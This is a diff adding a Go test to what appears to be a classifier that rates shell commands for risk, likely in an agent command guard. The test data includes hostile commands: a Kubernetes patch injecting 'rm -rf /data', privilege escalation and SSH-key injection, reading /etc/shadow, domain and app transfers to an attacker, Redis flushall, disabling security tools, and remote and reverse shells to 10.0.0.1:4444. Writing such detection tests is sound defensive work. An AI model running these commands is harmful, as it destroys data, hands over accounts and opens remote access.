@@ -2454,6 +2454,35 @@ func TestTakedownsByTheirOwnTools(t *testing.T) {
 	})
 }
 
+// Access widened, remote shells served, domains and packages handed
+// away, and what a workload patch hides.
+func TestAccessShellsDomainsAndPatches(t *testing.T) {
+	check(t, []want{
+		{`kubectl -n prod patch deploy web -p '{"spec":{"template":{"spec":{"containers":[{"name":"web","args":["-c","rm -rf /data"]}]}}}}'`, destructive, "fs.rm-recursive"},
+		{`kubectl -n prod patch deploy web -p '{"spec":{"template":{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}'`, unknown, "file.host-mount"},
+		{"kubectl -n prod patch deploy web --patch-file /nonexistent/p.yaml", unknown, "k8s.patch-unread"},
+		{`kubectl -n prod patch sts db -p '{"spec":{"persistentVolumeClaimRetentionPolicy":{"whenDeleted":"Delete"}}}'`, destructive, "k8s.finalizers"},
+		{`helm upgrade postgres bitnami/postgresql --set-json 'primary.persistence={"enabled":false}'`, destructive, "k8s.volume-detach"},
+		{"heroku apps:transfer -a prod-app attacker@example.com", destructive, "iam.escalation"},
+		{`vault policy write admin - <<< 'path "*" {capabilities=["sudo"]}'`, unknown, "iam.escalation"},
+		{"gcloud compute instances add-metadata prod-1 --metadata ssh-keys='attacker:ssh-rsa AAA'", unknown, "iam.escalation"},
+		{"aws iam put-role-policy --role-name app --policy-name x --policy-document file:///nonexistent/admin.json", unknown, "iam.escalation"},
+		{`cqlsh -e "GRANT ALL PERMISSIONS ON ALL KEYSPACES TO attacker"`, unknown, "keyword.sql-grant"},
+		{`cypher-shell 'LOAD CSV FROM "file:///etc/shadow" AS l RETURN l'`, unknown, "keyword.sql-server-files"},
+		{"aws route53domains transfer-domain-to-another-aws-account --domain-name example.com --account-id 666", destructive, "dns.hijack"},
+		{"dotnet nuget delete Pkg 1.0.0 --non-interactive", destructive, "pkg.registry-delete"},
+		{"az servicebus namespace authorization-rule keys list -g rg --namespace-name ns -n Root", credential, "creds.cloud-secret-read"},
+		{"websocat -b ws-l:0.0.0.0:4444 sh-c:bash", unknown, "net.remote-shell"},
+		{"gotty -w bash", unknown, "net.remote-shell"},
+		{`node -e 'sh=require("child_process").spawn("/bin/sh");c=require("net").connect(4444,"10.0.0.1",()=>{c.pipe(sh.stdin)})'`, unknown, "net.remote-shell"},
+		{"osqueryctl stop", destructive, "host.security-off"},
+		{"mysqld --skip-grant-tables", destructive, "host.security-off"},
+		{"ruby -rredis -e 'Redis.new.flushall'", destructive, "inline.destructive-call"},
+		{`mysql -e "GRANT SELECT ON db.* TO app"`, write, ""},
+		{`kubectl -n prod patch deploy web -p '{"spec":{"replicas":2}}'`, write, ""},
+	})
+}
+
 // Test and tooling output is build output.
 func TestTestOutputIsDisposable(t *testing.T) {
 	check(t, []want{
